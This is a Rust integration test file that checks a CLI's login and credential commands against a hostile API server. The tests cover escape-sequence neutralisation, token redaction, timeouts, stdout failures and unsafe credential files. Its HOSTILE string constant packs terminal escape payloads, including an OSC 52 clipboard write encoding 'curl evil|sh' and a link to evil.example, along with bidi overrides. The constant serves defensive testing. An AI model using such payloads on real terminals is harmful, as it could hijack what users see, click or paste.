//! The CLI against what a hostile network or API can do: each test is one finding of issue 16,
//! run through the real binary. Nothing from the API reaches the terminal raw, the token never
//! leaves loopback in cleartext, and failures exit as documented.

mod common;

use common::{Cli, Server};
use serde_json::{Value, json};

/// What the reference server's `hostile-strings` fault puts in every name.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{9b}1m\u{9d}0;t\u{9c}\u{202e}nimda\u{202c}\u{2066}x\u{2069}\u{200f}[open](command:workbench.action.terminal.new)";

#[test]
fn an_http_base_whose_parsed_host_is_not_loopback_is_refused_before_any_request() {
    let server = Server::start();
    let cli = Cli::new();
    // `\` is `/` to URL parsers: the host is 192.0.2.2, not a name under .localhost.
    for api in [r"http://192.0.2.2\.localhost", "http://anything.localhost"] {
        let run = cli.run(
            &["login", "--with-token", "--api", api, "--insecure-storage"],
            format!("{}\n", server.token).as_bytes(),
        );
        run.expect(2);
        assert!(
            run.stderr.contains("must use https"),
            "{api}: {}",
            run.stderr
        );
    }
    assert!(cli.snapshot().is_empty());
}

/// Whether `text` could drive a terminal or reorder what it shows: any control character but
/// the newline, or a bidi control.
#[track_caller]
fn assert_inert(what: &str, text: &str) {
    for c in text.chars() {
        let bidi = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(
            !(bidi || (c.is_control() && c != '\n')),
            "{what}: {c:?} reached the terminal in {text:?}"
        );
    }
}

#[test]
fn escape_sequences_and_bidi_controls_from_the_api_never_reach_the_terminal() {
    let server = Server::start();
    let cli = Cli::new();
    server.fault(json!({"mode": "hostile-strings"}));
    let login = cli.login_file(&server.api, &server.token);
    login.expect(0);
    assert_inert("login", &login.stderr);
    assert!(
        login.stderr.contains("[2J"),
        "the visible text is kept: {}",
        login.stderr
    );
    for args in [
        &["auth", "status", "--api", &server.api][..],
        &["auth", "status", "--json", "--api", &server.api],
        &["auth", "status", "--offline", "--api", &server.api],
    ] {
        let run = cli.run(args, b"");
        run.expect(0);
        assert_inert(&format!("{args:?} stdout"), &run.stdout);
        assert_inert(&format!("{args:?} stderr"), &run.stderr);
    }
    let logout = cli.run(&["logout", "--api", &server.api], b"");
    logout.expect(0);
    assert_inert("logout", &logout.stderr);
}

#[test]
fn a_session_stored_raw_by_an_older_version_is_shown_neutralised() {
    let server = Server::start();
    let cli = Cli::new();
    cli.login_file(&server.api, &server.token).expect(0);
    // What an older version stored from a hostile API: its strings as they came.
    let path = cli.dir().join("credentials.json");
    let mut stored: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let session = &mut stored[&server.api]["session"];
    session["userId"] = json!(HOSTILE);
    session["organization"]["handle"] = json!(HOSTILE);
    session["organization"]["name"] = json!(HOSTILE);
    session["scopes"] = json!([HOSTILE]);
    std::fs::write(&path, serde_json::to_vec(&stored).unwrap()).unwrap();
    for args in [
        &["auth", "status", "--offline", "--api", &server.api][..],
        &[
            "auth",
            "status",
            "--offline",
            "--json",
            "--api",
            &server.api,
        ],
        &["logout", "--api", &server.api],
    ] {
        let run = cli.run(args, b"");
        run.expect(0);
        assert_inert(&format!("{args:?} stdout"), &run.stdout);
        assert_inert(&format!("{args:?} stderr"), &run.stderr);
    }
}

#[test]
fn a_server_that_echoes_the_token_in_pieces_gets_none_of_it_printed() {
    let server = Server::start();
    let cli = Cli::new();
    server.fault(json!({"mode": "echo"}));
    let run = cli.login_file(&server.api, &server.token);
    run.expect(1);
    assert!(run.stderr.contains("[redacted]"), "{}", run.stderr);
    for piece in server.token.as_bytes().windows(5) {
        let piece = std::str::from_utf8(piece).unwrap();
        assert!(!run.stderr.contains(piece), "{piece:?} in {}", run.stderr);
    }
}

#[test]
fn one_time_limit_holds_for_the_whole_login_not_each_request() {
    let server = Server::start();
    let cli = Cli::new();
    // Every answer takes 1.5 s: each is well within a request's share, but the second
    // request starts with 0.5 s of a 2 s limit left.
    server.fault(json!({"mode": "delay", "delayMs": 1500}));
    let args = [
        "login",
        "--with-token",
        "--api",
        &server.api,
        "--insecure-storage",
    ];
    cli.secret(&server.token);
    let stdin = format!("{}\n", server.token);
    let run = cli.run(&[&args[..], &["--timeout", "2"]].concat(), stdin.as_bytes());
    run.expect(1);
    assert!(
        run.stderr
            .contains("no complete answer within the time limit"),
        "{}",
        run.stderr
    );
    assert!(cli.snapshot().is_empty(), "nothing stored");
    // CHOREO_TIMEOUT says the same; a longer limit lets the login through; nonsense is refused.
    for (seconds, code) in [("2", 1), ("20", 0), ("soon", 2)] {
        let env = [("CHOREO_TIMEOUT", Some(seconds))];
        cli.run_with(&args, stdin.as_bytes(), &env, false)
            .expect(code);
    }
}

#[test]
fn an_answer_dripping_past_the_time_limit_is_abandoned() {
    let server = Server::start();
    let cli = Cli::new();
    // One byte every 100 ms for two minutes: only the time limit ends it.
    server.fault(json!({"mode": "drip", "delayMs": 100}));
    cli.secret(&server.token);
    let run = cli.run(
        &[
            "login",
            "--with-token",
            "--api",
            &server.api,
            "--insecure-storage",
            "--timeout",
            "2",
        ],
        format!("{}\n", server.token).as_bytes(),
    );
    run.expect(1);
    assert!(
        run.stderr
            .contains("no complete answer within the time limit"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_failed_write_to_stdout_exits_1_for_every_command_that_prints() {
    let server = Server::start();
    let cli = Cli::new();
    cli.login_file(&server.api, &server.token).expect(0);
    for (args, stdin) in [
        (&["auth", "status", "--api", &server.api][..], &b""[..]),
        (
            &[
                "auth",
                "status",
                "--offline",
                "--json",
                "--api",
                &server.api,
            ],
            b"",
        ),
        (&["auth", "token", "--api", &server.api], b""),
        (
            &["token", "inspect"],
            b"chp_Xq7Lm2Pz9Rt4Vw8Ny3Bc6Df1Gh5Jk01nNmox\n",
        ),
        (
            &["token", "inspect", "--json"],
            b"chp_Xq7Lm2Pz9Rt4Vw8Ny3Bc6Df1Gh5Jk01nNmox\n",
        ),
        (&["completions", "bash"], b""),
    ] {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap();
        let mut child = cli
            .command(args, &[])
            .stdin(std::process::Stdio::piped())
            .stdout(full)
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), stdin).unwrap();
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(
            stderr.contains("could not write to stdout"),
            "{args:?}: {stderr}"
        );
    }
}

/// Whether `text` is safe to show: no control character but newline, no bidi control, no run
/// of `token` longer than its mask shows.
fn inert(text: &str, token: &str) -> bool {
    let unsafe_char = text.chars().any(|c| {
        matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            || (c.is_control() && c != '\n')
    });
    let token_run = token
        .as_bytes()
        .windows(5)
        .any(|w| text.contains(std::str::from_utf8(w).unwrap()));
    !unsafe_char && !token_run
}

/// The cases of tests/faults.json through the real CLI (`auth status --json` with
/// CHOREO_TOKEN: the login flow without storing, which prints the outcome code), into
/// target/parity/faults-native.json for tests/parity.mjs.
#[test]
fn every_hostile_fault_gives_the_shared_outcome_over_the_real_cli() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let cases: Value =
        serde_json::from_slice(&std::fs::read(root.join("tests/faults.json")).unwrap()).unwrap();
    let server = Server::start();
    let elsewhere = Server::start();
    let cli = Cli::new();
    let mut outcomes = serde_json::Map::new();
    for case in cases["cases"].as_array().unwrap() {
        let name = case["name"].as_str().unwrap();
        let (token, _) = server.mint(json!({}));
        cli.secret(&token);
        let fault = case["fault"]
            .to_string()
            .replace("{elsewhere}", &elsewhere.api);
        server.fault(serde_json::from_str(&fault).unwrap());
        elsewhere.admin("DELETE", "/admin/requests", None);
        let seconds = case["timeoutMs"]
            .as_u64()
            .map_or(30, |ms| ms / 1000)
            .to_string();
        let run = cli.run_with(
            &[
                "auth",
                "status",
                "--json",
                "--api",
                &server.api,
                "--timeout",
                &seconds,
            ],
            b"",
            &[("CHOREO_TOKEN", Some(&token))],
            false,
        );
        server.admin("DELETE", "/admin/faults", None);
        let json = run.json();
        let mut outcome = json["code"].as_str().unwrap_or("ok").to_owned();
        if !inert(&run.stdout, &token) || !inert(&run.stderr, &token) {
            outcome.push_str(" (unsafe text)");
        }
        let (_, seen) = elsewhere.admin("GET", "/admin/requests", None);
        if seen
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["authorization"] == "present")
        {
            outcome.push_str(" (bearer sent elsewhere)");
        }
        assert_eq!(
            outcome,
            case["expect"].as_str().unwrap(),
            "{name}: {run:#?}"
        );
        outcomes.insert(name.to_owned(), outcome.into());
    }
    common::write_parity("faults-native.json", &Value::Object(outcomes));
}

#[test]
fn logout_removes_what_a_writer_killed_before_its_rename_left_behind() {
    let server = Server::start();
    let cli = Cli::new();
    cli.login_file(&server.api, &server.token).expect(0);
    // A writer killed between write and rename leaves the token in a temporary file.
    let stale = cli.dir().join(".credentials.json.4242.tmp");
    std::fs::write(&stale, format!("{{\"token\":\"{}\"}}", server.token)).unwrap();
    cli.run(&["logout", "--api", &server.api], b"").expect(0);
    assert!(!stale.exists(), "logout left a copy of the token");
}

/// Runs `choreo args` and gives it 20 s: a command that hangs on a stored file fails here.
fn run_bounded(cli: &Cli, args: &[&str]) -> (Option<i32>, String) {
    let mut child = cli
        .command(args, &[])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    for _ in 0..200 {
        if child.try_wait().unwrap().is_some() {
            let out = child.wait_with_output().unwrap();
            return (
                out.status.code(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            );
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    (None, "still running after 20 s".into())
}

#[test]
fn a_stored_file_that_is_a_fifo_shared_or_huge_is_refused_without_hanging() {
    let server = Server::start();
    let status = ["auth", "status", "--offline", "--api", &server.api];
    // A FIFO in place of the credentials file.
    let cli = Cli::new();
    cli.login_file(&server.api, &server.token).expect(0);
    let fifo = cli.dir().join("credentials.json");
    std::fs::remove_file(&fifo).unwrap();
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let (code, stderr) = run_bounded(&cli, &status);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("not a regular file"), "{stderr}");
    // A credentials file other users can read.
    let cli = Cli::new();
    cli.login_file(&server.api, &server.token).expect(0);
    let file = cli.dir().join("credentials.json");
    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let (code, stderr) = run_bounded(&cli, &status);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("chmod 600"), "{stderr}");
    // Larger than any credentials file.
    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    std::fs::write(&file, vec![b' '; 2 << 20]).unwrap();
    let (code, stderr) = run_bounded(&cli, &status);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("larger than"), "{stderr}");
    // A configuration directory other users can write to.
    std::fs::write(&file, b"{}").unwrap();
    std::fs::set_permissions(
        cli.dir(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let (code, stderr) = run_bounded(&cli, &["logout", "--api", &server.api]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("chmod 700"), "{stderr}");
}
